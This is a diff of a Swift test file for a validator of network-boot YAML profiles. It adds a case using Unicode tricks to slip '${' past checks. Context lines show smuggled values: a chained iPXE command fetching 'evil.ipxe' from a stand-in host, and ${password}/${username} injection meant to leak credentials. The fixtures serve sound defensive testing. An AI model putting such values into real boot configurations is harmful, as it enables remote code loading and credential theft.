@@ -149,6 +149,12 @@ struct DiagnosticTests {
              files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                               extra: "  kernelArgs: \"quiet && \\u0301chain http://198.18.0.66/evil.ipxe\"\n")],
              expected: [("m.yaml:8:15", "'spec.kernelArgs' must not contain the word '&&'")]),
+        Case(name: "a hidden space in a kernel URL, and ${ split by a combining mark",
+             files: ["p.yaml": Sample.profile.replacingOccurrences(of: "kernel: http://198.18.0.1:8080/files/debian-12/linux",
+                                                                  with: "kernel: \"http://198.18.0.1:8080/k\u{600} #\"")
+                        + "\n    args: \"quiet x=${\u{301}net0/mac}\"\n"],
+             expected: [("p.yaml:6:13", "'spec.boot.kernel' is not an http:// or https:// URL"),
+                        ("p.yaml:8:11", "'spec.boot.args' must not contain '${'")]),
         Case(name: "an iPXE setting in a profile's boot args and kernel URL",
              files: ["p.yaml": Sample.profile.replacingOccurrences(of: "/linux", with: "/${password}/linux")
                         + "\n    args: \"auto=true leak=${username}\"\n"],
